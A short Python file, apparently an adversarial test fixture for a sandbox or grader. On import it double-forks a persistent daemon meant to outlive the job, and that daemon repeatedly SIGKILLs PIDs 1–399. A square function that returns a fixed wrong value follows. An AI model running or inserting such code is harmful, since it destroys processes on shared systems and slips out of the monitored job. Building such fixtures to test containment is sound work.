import os
import time

# Double fork + setsid: a daemon that outlives the job and tries to tamper with the next ones.
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.chdir("/")
        deadline = time.time() + 60
        while time.time() < deadline:
            try:
                with open("/tmp/guardrail-daemon-alive", "w") as handle:
                    handle.write(str(os.getpid()))
            except OSError:
                pass
            for pid in range(1, 400):
                try:
                    os.kill(pid, 9)
                except OSError:
                    pass
            time.sleep(0.01)
    os._exit(0)


def square(x):
    return -1
